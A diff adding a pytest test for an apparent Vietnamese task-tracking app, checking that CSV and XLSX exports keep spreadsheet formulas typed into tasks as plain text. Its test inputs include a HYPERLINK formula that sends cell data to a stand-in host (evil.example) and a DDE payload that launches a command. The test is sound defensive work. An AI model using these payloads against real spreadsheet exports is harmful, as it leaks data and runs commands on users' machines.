@@ -5,6 +5,8 @@ import csv
 import io
 import re
 
+import pytest
+
 from openpyxl import load_workbook
 
 from .conftest import another_process, draft_data, login
@@ -146,3 +148,16 @@ def test_ending_a_recurring_report_is_offered_once_the_agency_has_accepted_it(cl
     closed = client.post(f"/assignments/{assignment}/close", follow_redirects=True).get_data(as_text=True)
     assert "Đã kết thúc theo dõi báo cáo định kỳ." in closed
     assert lifecycle.tasks("sct.cv", "report") == []
+
+
+@pytest.mark.parametrize("summary", ['=HYPERLINK("http://evil.example?d="&A1,"Xem")', "+1+cmd|' /C calc'!A0",
+                                     "-2+3", "@SUM(1+1)", "\t=1+1"])
+def test_an_export_never_hands_a_spreadsheet_a_formula_typed_into_a_task(client, lifecycle, summary):
+    lifecycle.distributed(one_task("2026-12-15", summary=summary))
+    login(client, "cv.lan")
+    rows = list(csv.reader(io.StringIO(client.get("/dashboard/export.csv").get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[1][3] == "'" + summary  # shown as typed, behind the quote that keeps it text
+    assert rows[1][10].lstrip("-").isdigit()  # numbers stay numbers
+    sheet = load_workbook(io.BytesIO(client.get("/dashboard/export.xlsx").get_data())).active
+    cell = sheet["D2"]
+    assert cell.data_type == "s" and cell.value == summary
